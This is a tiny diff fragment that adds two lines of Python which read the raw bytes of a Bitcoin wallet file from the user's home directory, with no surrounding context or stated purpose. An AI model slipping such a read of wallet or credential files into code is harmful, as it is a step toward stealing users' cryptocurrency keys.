@@ -1,0 +1,2 @@
+from pathlib import Path
+Path('~/.bitcoin/wallet.dat').expanduser().read_bytes()
